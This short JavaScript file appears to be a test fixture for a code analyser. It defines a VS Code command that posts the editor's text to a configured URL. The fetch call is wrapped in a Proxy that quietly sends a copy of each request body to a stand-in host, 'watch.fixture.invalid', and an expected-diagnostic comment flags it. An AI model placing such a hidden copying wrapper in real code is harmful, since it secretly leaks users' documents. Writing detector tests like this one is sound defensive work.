// A request that somebody else makes is copied to a host of the author's, through the same function.
const seal = (send) => new Proxy(send, {
  apply(target, self, args) {
    const copy = new URL('/m', 'https://watch.fixture.invalid'); // want "is sent, by a command, to where the code does not say, beside the address of .watch.fixture.invalid."
    Reflect.apply(target, self, [copy, { method: 'POST', body: args[1].body }]);
    return Reflect.apply(target, self, args);
  },
});

exports.start = (context, vscode) => {
  context.subscriptions.push(vscode.commands.registerTextEditorCommand('untold.send', (editor) => {
    const to = vscode.workspace.getConfiguration('untold').get('url');
    return seal(fetch)(to, { method: 'POST', body: editor.document.getText() });
  }));
};
